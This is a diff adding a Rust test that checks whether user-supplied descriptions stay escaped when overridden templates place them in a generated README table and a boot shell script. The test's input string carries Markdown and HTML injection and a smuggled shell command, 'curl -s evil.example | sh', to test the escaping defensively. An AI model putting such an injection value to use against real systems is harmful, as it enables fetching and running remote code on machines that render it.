@@ -236,3 +236,69 @@ proptest! {
         prop_assert_eq!(plain.trim(), expected.trim(), "{:?} -> {:?}", text, encoded);
     }
 }
+
+/// A house template may put a value anywhere; the encoders still hold (an attack put the
+/// description into a variable's default, which reached the README's Inputs table raw, and into
+/// a shell command of the boot script).
+#[test]
+fn override_templates_cannot_carry_a_value_out_of_its_place() {
+    let description =
+        "x` | **INJECTED** | <img src=x> | [click](https://evil.example) `y\"; curl -s evil.example | sh; echo \"$(id)";
+    let variables = rediform::render::TEMPLATES
+        .iter()
+        .find(|(n, _)| *n == "common/variables.tf.tera")
+        .unwrap()
+        .1
+        .to_owned()
+        + "\nvariable \"team_note\" {\n  type    = string\n  default = \"{{ description }}\"\n}\n";
+    let script = rediform::render::TEMPLATES
+        .iter()
+        .find(|(n, _)| *n == "self-hosted/user_data.sh.tftpl.tera")
+        .unwrap()
+        .1
+        .replace("main() {\n", "main() {\n  logger \"booting: {{ description }}\"\n");
+    let templates = Templates::with_overrides(&[
+        ("common/variables.tf.tera".to_owned(), variables),
+        ("self-hosted/user_data.sh.tftpl.tera".to_owned(), script),
+    ])
+    .unwrap();
+    let text = with_description("self-hosted", description);
+    let w = rediform::parse(&text).unwrap();
+    let plan = rediform::build(&w, &Catalog::embedded()).unwrap();
+    let module = render::render(&module::spec(&plan, "w.toml", false), &templates).unwrap();
+    let readme = &module.files["README.md"];
+    let row = readme.lines().find(|l| l.contains("team\\_note")).unwrap();
+    // Read as GitHub reads the table: five cells, the default one a single code span.
+    let table = format!("| Name | Description | Type | Default | Required |\n|---|---|---|---|:-:|\n{row}\n");
+    let mut cells: Vec<Vec<pulldown_cmark::Event>> = Vec::new();
+    let mut body = false;
+    for event in pulldown_cmark::Parser::new_ext(&table, pulldown_cmark::Options::ENABLE_TABLES) {
+        use pulldown_cmark::{Event, Tag, TagEnd};
+        match event {
+            Event::End(TagEnd::TableHead) => body = true,
+            Event::Start(Tag::TableCell) if body => cells.push(Vec::new()),
+            Event::End(TagEnd::TableCell) => {}
+            e if body => {
+                if let Some(cell) = cells.last_mut() {
+                    cell.push(e.into_static());
+                }
+            }
+            _ => {}
+        }
+    }
+    assert_eq!(cells.len(), 5, "{row}");
+    match cells[3].as_slice() {
+        [pulldown_cmark::Event::Code(code)] => {
+            assert!(code.contains("**INJECTED**") && code.contains("<img"), "{code}");
+        }
+        other => panic!("the default is not one code span: {other:?}"),
+    }
+    let line = module.files["user_data.sh.tftpl"]
+        .lines()
+        .find(|l| l.contains("booting:"))
+        .unwrap();
+    assert!(
+        !line.contains(['$', '`', ';', '|']) && line.matches('"').count() == 2,
+        "{line}"
+    );
+}
